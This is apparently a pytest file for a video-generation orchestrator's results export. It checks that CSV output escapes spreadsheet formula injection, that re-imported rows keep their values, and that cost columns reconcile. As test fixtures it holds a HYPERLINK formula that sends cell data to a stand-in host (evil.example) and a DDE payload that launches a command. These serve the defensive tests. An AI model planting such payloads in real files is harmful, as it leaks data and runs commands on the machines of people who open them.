"""Results as sheets: what a spreadsheet program opens calculates nothing, and holds what was written."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from manifests import load
from orchestrator.items.states import State
from orchestrator.ledger.keys import Ref
from orchestrator.ledger.records import Attempt, Item, Spec
from orchestrator.reports.results import as_csv, as_jsonl, row

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
COLUMNS = ("prompt", "product", "=2+2", "offset")


def item(key: str, prompt: str, **labels: str) -> Item:
    """One that failed, for a reason in the words of a hostile server."""
    spec = Spec(key, prompt, "sora-2", "1280x720", 4, "v1:x", {"product": "mug", "=2+2": "+4+cmd", **labels})
    made = Attempt.parse(1, {"deployment": "east", "remote_id": "@SUM(A1:A9)"})
    return Item(Ref("b", key), State.FAILED, 3, spec, 1, made, FORMULA, "m", "east", {"url": "-cmd|' /C calc'!A0"})


async def items() -> AsyncIterator[Item]:
    yield item("hero", FORMULA, offset="-5")
    yield item("boat", "- slow dolly-in; =1+1;=2", offset="+3.5 %")


async def test_no_cell_is_a_formula_and_numbers_stay_numbers() -> None:
    """Neither a person's words nor a server's, nor the name of a column."""
    text = "".join([piece async for piece in as_csv(items(), COLUMNS)])
    header, *rows = csv.reader(io.StringIO(text))
    cells = [cell for row in (header, *rows) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == ["-5", "+3.5 %"]
    assert "'=2+2" in header
    found = dict(zip(header, rows[0], strict=True))
    assert (found["reason"], found["remote_id"], found["url"]) == (f"'{FORMULA}", "'@SUM(A1:A9)", "'-cmd|' /C calc'!A0")


async def test_rows_that_are_ordered_again_are_ordered_in_the_same_words(tmp_path: Path) -> None:
    path = tmp_path / "again.csv"
    path.write_bytes("".join([piece async for piece in as_csv(items(), COLUMNS)]).encode())
    again = list(load(path, models=None).items())
    assert [each.prompt for each in again] == [FORMULA, "- slow dolly-in; =1+1;=2"]
    assert [each.labels["=2+2"] for each in again] == ["+4+cmd", "+4+cmd"]
    assert [each.key for each in again] == ["hero", "boat"]


async def test_json_holds_every_value_as_it_is() -> None:
    rows = [json.loads(line) async for line in as_jsonl(items(), COLUMNS)]
    assert rows[0]["prompt"] == FORMULA
    assert rows[0]["remote_id"] == "@SUM(A1:A9)"


@pytest.mark.parametrize(
    ("state", "confirmed", "unknown", "most"),
    [
        (State.WAITING, 0, 0, 0.4),
        (State.RENDERING, 0, 400_000, 0.4),
        (State.WAITING, 0, 400_000, 0.8),  # a new attempt after one that failed
        (State.ARCHIVED, 800_000, 0, 0.8),  # and that was made too: both are paid
        (State.FAILED, 0, 0, 0.4),
    ],
)
def test_what_a_row_may_cost_is_never_less_than_what_was_paid_for_it(
    state: State, confirmed: int, unknown: int, most: float
) -> None:
    """The rows then add up to what the batch says."""
    money = {"price": "400000", "confirmed": str(confirmed), "unknown": str(unknown), "bytes": "1"}
    whole = dataclasses.replace(item("hero", "A mug"), state=state, fields=money)
    found = row(whole, ())
    assert (found["estimated_usd"], found["confirmed_usd"], found["unknown_usd"]) == (
        most,
        confirmed / 1e6,
        unknown / 1e6,
    )
